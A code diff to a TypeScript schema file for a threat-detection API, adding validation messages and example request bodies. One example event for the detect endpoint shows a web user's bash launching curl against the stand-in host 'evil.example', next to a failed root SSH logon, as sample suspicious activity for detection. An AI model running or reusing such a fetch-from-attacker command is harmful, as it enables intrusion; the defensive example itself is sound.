@@ -1,6 +1,6 @@
 // What is asked of /api/threat, and answered.
 import { z } from 'zod';
-import { EVENTS_MAX, eventInput } from './event-input.ts';
+import { EVENTS_MAX, eventInput, TIME_RULE } from './event-input.ts';
 import {
   agentAnswer,
   alertAnswer,
@@ -11,9 +11,10 @@ import {
   severity,
 } from './findings.ts';
 
-const time = z.iso.datetime({ offset: true });
+const time = z.iso.datetime({ offset: true, error: TIME_RULE });
+const LIMIT_RULE = 'write one whole number from 1 to 1000';
 const name = z.string().min(1).max(512);
-const limit = z.coerce.number().int().min(1).max(1_000).default(100);
+const limit = z.coerce.number(LIMIT_RULE).int(LIMIT_RULE).min(1, LIMIT_RULE).max(1_000, LIMIT_RULE).default(100);
 const after = z.string().max(512).optional().describe('`next` of the page before');
 const next = z.string().describe('Of the next page; empty on the last');
 const id = z
@@ -33,20 +34,42 @@ export const threatHealthAnswer = z.object({
   events_per_second: z.number(),
 });
 
-export const detectBody = z.strictObject({
-  events: z.array(eventInput).min(1).max(EVENTS_MAX),
-  host: z
-    .string()
-    .regex(/^[A-Za-z0-9._-]{1,64}$/, 'the name of a host')
-    .default('api')
-    .describe('The host they are said to come from'),
-  store: z
-    .boolean()
-    .default(false)
-    .describe(
-      'Keep the detections and raise alerts of them; needs detection:report. The events are not kept: only what an agent signed is',
-    ),
-});
+export const detectBody = z
+  .strictObject({
+    events: z.array(eventInput).min(1).max(EVENTS_MAX),
+    host: z
+      .string()
+      .regex(/^[A-Za-z0-9._-]{1,64}$/, 'the name of a host')
+      .default('api')
+      .describe('The host they are said to come from'),
+    store: z
+      .boolean()
+      .default(false)
+      .describe(
+        'Keep the detections and raise alerts of them; needs detection:report. The events are not kept: only what an agent signed is',
+      ),
+  })
+  .meta({
+    examples: [
+      {
+        host: 'web-1',
+        events: [
+          {
+            observed_at: '2026-11-22T05:00:00Z',
+            ...{ class: 'authentication', activity: 'logon', outcome: 'failure', service_name: 'sshd' },
+            user: { name: 'root' },
+            authentication: { method: 'password', source_address: '203.0.113.7', source_port: 50_123 },
+          },
+          {
+            class: 'process',
+            activity: 'exec',
+            process: { executable: '/usr/bin/curl', args: ['curl', 'http://evil.example/x'], parent_name: 'bash' },
+            user: { name: 'www-data', id: 33 },
+          },
+        ],
+      },
+    ],
+  });
 export const detectAnswer = z.object({
   detections: z.array(detectionAnswer),
   events: z.int(),
@@ -54,13 +77,22 @@ export const detectAnswer = z.object({
   stored: z.boolean(),
 });
 
-export const analyzeBody = z.strictObject({
-  entity: z.strictObject({ kind: z.enum(['host', 'user']), name }),
-  window: z
-    .strictObject({ from: time, to: time })
-    .optional()
-    .describe('The last 24 hours where it is left out; whole hours'),
-});
+export const analyzeBody = z
+  .strictObject({
+    entity: z.strictObject({ kind: z.enum(['host', 'user']), name }),
+    window: z
+      .strictObject({ from: time, to: time })
+      .optional()
+      .describe('The last 24 hours where it is left out; whole hours'),
+  })
+  .meta({
+    examples: [
+      {
+        entity: { kind: 'user', name: 'alice' },
+        window: { from: '2026-11-21T00:00:00Z', to: '2026-11-22T00:00:00Z' },
+      },
+    ],
+  });
 const learning = z
   .object({ days: z.int(), of: z.int(), done: z.boolean() })
   .describe('Days the entity is known, of those the models need');
@@ -115,17 +147,21 @@ export const analyzeAnswer = z.object({
   method: z.string().describe('By what the score was made: the models, or the series while they are learning'),
 });
 
-export const networkBody = z.strictObject({
-  host: name.optional(),
-  address: z
-    .union([z.ipv4(), z.ipv6(), z.cidrv4(), z.cidrv6()])
-    .optional()
-    .describe('Of either end; a network in CIDR'),
-  window: z
-    .strictObject({ from: time, to: time })
-    .optional()
-    .describe('The last hour where it is left out; at most 7 days'),
-});
+export const networkBody = z
+  .strictObject({
+    host: name.optional(),
+    address: z
+      .union([z.ipv4(), z.ipv6(), z.cidrv4(), z.cidrv6()])
+      .optional()
+      .describe('Of either end; a network in CIDR'),
+    window: z
+      .strictObject({ from: time, to: time })
+      .optional()
+      .describe('The last hour where it is left out; at most 7 days'),
+  })
+  .meta({
+    examples: [{ address: '203.0.113.0/24', window: { from: '2026-11-22T04:00:00Z', to: '2026-11-22T05:00:00Z' } }],
+  });
 const counted = z.array(z.object({ name: z.string(), connections: z.int(), bytes: z.number() }));
 export const networkAnswer = z.object({
   window: z.object({ from: time, to: time }),
@@ -154,7 +190,8 @@ export const correlateBody = z
   .refine(({ alerts, entity }) => !(alerts && entity), {
     message: 'name alerts or an entity, not both',
     path: ['alerts'],
-  });
+  })
+  .meta({ examples: [{ since: '2026-11-21T00:00:00Z', until: '2026-11-22T00:00:00Z', severity: 'medium' }] });
 export const correlateAnswer = z.object({
   alerts: z.int().describe('Looked at'),
   incidents: z.array(incidentAnswer).describe('What they would be told as, the most severe first'),
@@ -223,16 +260,29 @@ export const oneAgentAnswer = z.object({
   observed_day: z.number(),
 });
 
-export const eventsBody = z.strictObject({
-  filters: z
-    .array(z.strictObject({ field: z.string().min(1).max(128), value: z.string().max(4_096) }))
-    .max(32)
-    .default([])
-    .describe('All must hold; fields by ECS name, as "threatguard events search" takes them'),
-  ...span,
-  limit: z.int().min(1).max(1_000).default(100),
-  after,
-});
+export const eventsBody = z
+  .strictObject({
+    filters: z
+      .array(z.strictObject({ field: z.string().min(1).max(128), value: z.string().max(4_096) }))
+      .max(32)
+      .default([])
+      .describe('All must hold; fields by ECS name, as "threatguard events search" takes them'),
+    ...span,
+    limit: z.int().min(1).max(1_000).default(100),
+    after,
+  })
+  .meta({
+    examples: [
+      {
+        filters: [
+          { field: 'user.name', value: 'root' },
+          { field: 'event.outcome', value: 'failure' },
+        ],
+        since: '2026-11-22T04:00:00Z',
+        limit: 50,
+      },
+    ],
+  });
 export const eventsAnswer = z.object({
   events: z.array(eventAnswer),
   next,
